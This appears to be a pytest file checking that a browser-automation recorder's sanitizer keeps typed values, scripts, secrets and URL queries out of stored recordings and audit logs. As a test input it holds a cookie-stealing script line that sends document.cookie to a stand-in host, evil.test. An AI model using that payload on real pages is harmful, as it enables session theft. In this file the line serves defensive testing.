"""The one sanitizer: typed values, scripts, secrets and url parts never reach the disk."""

from __future__ import annotations

import hashlib
import json
from typing import TYPE_CHECKING

import pytest

from terax_jupyter.exceptions import ReplayRefused
from terax_jupyter.security.redact import REDACTED, Redactor
from terax_jupyter.services.browser.ir import Click, Navigate, Recorder, Recording, Type
from terax_jupyter.services.browser.policy import Condition
from terax_jupyter.services.browser.sanitize import SCRIPT, TYPED, Sanitizer

from . import replay_fixtures
from .replay_fixtures import (
    ACCOUNTS,
    KNOWN_SECRET,
    ORIGIN,
    SCOPE,
    FakePage,
    agent_navigate,
    agent_type,
    login_policy,
    record_login,
    record_search,
    search_policy,
)

if TYPE_CHECKING:
    from .replay_fixtures import Engine

engine = replay_fixtures.engine  # the shared fixture

API_KEY = "sk-ant-api03-" + "Q" * 40
SCRIPT_TEXT = "fetch('https://evil.test/?c=' + document.cookie)"


@pytest.fixture
def sanitizer() -> Sanitizer:
    redactor = Redactor()
    redactor.add_secret(KNOWN_SECRET)
    return Sanitizer(redactor)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (f"{ORIGIN}/a/b", f"{ORIGIN}/a/b"),
        ("https://bob:hunter2@example.test:8443/p?token=abc#frag", "https://example.test:8443/p"),
        ("https://example.test/search?q=private+thing", "https://example.test/search"),
        ("http://[::1]:8888/lab#x", "http://[::1]:8888/lab"),
        (f"https://example.test/reset/{KNOWN_SECRET}", f"https://example.test/reset/{REDACTED}"),
        ("https://example.test:notaport/", "[invalid url]"),
    ],
)
def test_urls_lose_user_info_query_and_fragment(
    sanitizer: Sanitizer, url: str, expected: str
) -> None:
    assert sanitizer.url(url) == expected


def test_only_placeholders_survive_as_typed_values(sanitizer: Sanitizer) -> None:
    assert sanitizer.typed_value("{{password}}") == "{{password}}"
    for value in ("hunter2", "{{ password }}", "", None, 42):
        assert sanitizer.typed_value(value) == TYPED


def test_scripts_become_a_marker_and_a_digest(sanitizer: Sanitizer) -> None:
    marked = sanitizer.script(SCRIPT_TEXT)
    assert marked == f"{SCRIPT} sha256:{hashlib.sha256(SCRIPT_TEXT.encode()).hexdigest()}"
    assert "cookie" not in marked


def test_text_is_scrubbed_of_typed_values_then_redacted(sanitizer: Sanitizer) -> None:
    scrubbing = sanitizer.with_typed(["pw-alice-Recorded-1", "ab"])
    text = f"Welcome pw-alice-Recorded-1, ab, {KNOWN_SECRET}, key {API_KEY}"
    clean = scrubbing.text(text)
    assert "pw-alice-Recorded-1" not in clean
    assert KNOWN_SECRET not in clean
    assert API_KEY not in clean
    assert ", ab," in clean  # too short to scrub without shredding every text
    assert sanitizer.text("pw-alice-Recorded-1") == "pw-alice-Recorded-1"  # parent unchanged


def test_actions_keep_only_what_replay_needs(sanitizer: Sanitizer) -> None:
    assert sanitizer.action(Type("textbox", "Password", "{{password}}"))["value"] == "{{password}}"
    assert sanitizer.action(Click("link", f"Reset {KNOWN_SECRET}"))["name"] == f"Reset {REDACTED}"
    assert sanitizer.action(Navigate(f"{ORIGIN}/a")) == {"kind": "navigate", "url": f"{ORIGIN}/a"}


async def test_a_sanitized_recording_is_still_a_valid_recording(sanitizer: Sanitizer) -> None:
    recording = await record_login(FakePage())
    data = sanitizer.recording(recording)
    text = json.dumps(data)
    assert "alice-recorder" not in text
    assert ACCOUNTS["alice-recorder"] not in text
    assert f"1:heading:Welcome, {TYPED}" in data["steps"][4]["structure"]
    again = Recording.from_json(data)
    assert again.actions == recording.actions


def test_audit_records_are_sanitized_by_key_and_by_kind(sanitizer: Sanitizer) -> None:
    from terax_jupyter.services.browser.types import AXNode, Snapshot

    snapshot = Snapshot(
        f"{ORIGIN}/login?next=/x",
        "Sign in",
        (AXNode("e1", "textbox", "Password", value="typed-into-the-field"),),
    )
    record = sanitizer.with_typed(["bob-replayer"]).record(
        {
            "value": "literal typed text",
            "text": "more typed text",
            "script": SCRIPT_TEXT,
            "url": "https://u:p@example.test/x?q=1#f",
            "final_url": "https://example.test/y?token=abc",
            "inputs": {"username": "bob-replayer", "bad key!": "x"},
            "password": "whatever-it-is",
            "message": f"user bob-replayer used {API_KEY}",
            "start": snapshot,
            "node": snapshot.nodes[0],
            "nested": [{"value": "deep literal"}, {"source": "alert(1)"}],
            "condition": Condition("text_contains", "Welcome"),
            "policy": login_policy(),
        }
    )
    text = json.dumps(record)
    for leaked in (
        "literal typed text",
        "more typed text",
        "document.cookie",
        "alert(1)",
        "deep literal",
        "typed-into-the-field",
        "bob-replayer",
        "whatever-it-is",
        API_KEY,
        "q=1",
        "token=abc",
        "next=",
        "u:p@",
    ):
        assert leaked not in text, leaked
    assert record["inputs"] == [TYPED, "username"]
    assert record["url"] == "https://example.test/x"
    assert record["script"].startswith(SCRIPT)
    assert record["start"]["structural_hash"] == snapshot.structural_hash()
    assert record["condition"] == {"kind": "text_contains", "value": "Welcome"}
    assert record["policy"]["scope_id"] == SCOPE


async def test_nothing_typed_secret_or_scripted_reaches_the_disk(engine: Engine) -> None:
    """Record, cache, save, replay and refuse with values that must never be persisted, then
    read the raw bytes of the database (with its WAL) and of every audit file."""
    page = FakePage()
    page.extra.append(("link", f"Settings api_key={API_KEY}"))
    login = await record_login(page)
    engine.store.put_entry("login", login, login_policy())

    query = f"my private query {KNOWN_SECRET}"
    search = await record_search(FakePage(), query)
    policy = search_policy(postconditions=(Condition("text_contains", "Results"),))
    engine.store.put_entry("search", search, policy)
    engine.workflows.save("Search things", search, search_policy(), inputs=["query"])

    # A recording the agent made with a literal and a script: never cached, only audited.
    recorder = Recorder()
    literal_page = FakePage()
    await agent_navigate(literal_page, recorder, "/login")
    await agent_type(
        literal_page, recorder, "textbox", "Username", "alice-literal-typed", "alice-literal-typed"
    )
    recorder.evaluate(SCRIPT_TEXT)
    dirty = recorder.finish()
    with pytest.raises(ReplayRefused):
        engine.store.put_entry("dirty", dirty, login_policy())
    with engine.audit.open_run("recording", typed=sorted(dirty.typed_values)) as run:
        run.record("recorded", recording=dirty, script=SCRIPT_TEXT, value="alice-literal-typed")

    # Replays with other plaintext inputs, one finishing and one refused midway.
    entry = engine.store.get_entry("login", login_policy())
    assert entry is not None
    bob = {"username": "bob-replayer", "password": ACCOUNTS["bob-replayer"]}
    replay_page = FakePage()
    replay_page.extra.append(("link", f"Settings api_key={API_KEY}"))
    await engine.replayer.replay(entry, replay_page, bob, task="t", policy=login_policy())
    wrong = {"username": "bob-replayer", "password": "pw-wrong-Password-333"}
    with pytest.raises(ReplayRefused):
        await engine.replayer.replay(entry, FakePage(), wrong, task="t", policy=login_policy())

    raw = engine.raw_bytes()
    # The files were read: the targets' names are stored in clear, the rest of the page as
    # keyed hashes (so not even the redacted "api_key" line is there).
    assert b"Sign in" in raw
    assert b'"h:' in raw
    for leaked in (
        *ACCOUNTS,
        *ACCOUNTS.values(),
        "pw-wrong-Password-333",
        "alice-literal-typed",
        "my private query",
        KNOWN_SECRET,
        API_KEY,
        "document.cookie",
        "evil.test",
    ):
        assert leaked.encode() not in raw, leaked
    assert len(engine.audit_files()) == 3
